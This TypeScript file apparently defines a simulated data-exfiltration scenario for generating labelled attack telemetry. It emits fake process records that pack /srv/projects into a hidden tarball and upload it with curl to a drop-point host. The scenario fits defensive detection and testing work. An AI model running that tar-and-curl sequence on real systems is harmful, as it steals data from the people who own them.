import type { Draft } from "./draft.ts";
import { tcpConnection } from "./flow-shape.ts";
import { dropPoints, workstations } from "./network.ts";
import { beginIn, hourUs, minuteUs, type Scenario, secondUs } from "./scenario.ts";

const gibibyte = 2 ** 30;

/** Files are packed, then sent out in one long upload, against all proportion of what comes back. */
export const exfiltration: Scenario = {
  name: "exfiltration",
  label: "attack",
  technique: "T1048.002",
  everyUs: 8 * hourUs,
  *play(random, window) {
    const host = random.pick(workstations);
    const target = random.pick(dropPoints);
    const lengthUs = window.endUs - window.startUs;
    const packingUs = Math.min(random.between(20, 90) * secondUs, lengthUs * 0.2);
    const sendingUs = Math.min(random.between(8, 45) * minuteUs, lengthUs * 0.6);
    const atUs = beginIn(random, window, packingUs + sendingUs);
    const pid = random.whole(20_000, 400_000);
    const run = (startUs: number, further: number, args: readonly [string, ...string[]]): Draft => {
      const process = { host, pid: pid + further, ppid: pid, uid: 1000, args };
      return { kind: "process", ...process, startUs, endUs: startUs };
    };
    yield { atUs, drafts: [run(atUs, 1, ["/usr/bin/tar", "-czf", "/tmp/.b.tgz", "/srv/projects"])] };
    const sendUs = Math.round(atUs + packingUs);
    const txBytes = Math.round(random.logNormal(1.2 * gibibyte, 0.5, 20 * gibibyte));
    const upload = {
      startUs: sendUs + 5000,
      durationUs: sendingUs,
      txBytes,
      rxBytes: Math.round(txBytes * random.between(0.0005, 0.002)),
    };
    yield {
      atUs: sendUs,
      drafts: [
        run(sendUs, 2, ["/usr/bin/curl", "-sT", "/tmp/.b.tgz", `https://${target}/u`]),
        ...tcpConnection(random, { source: host, target, targetPort: 443 }, upload),
      ],
    };
  },
};
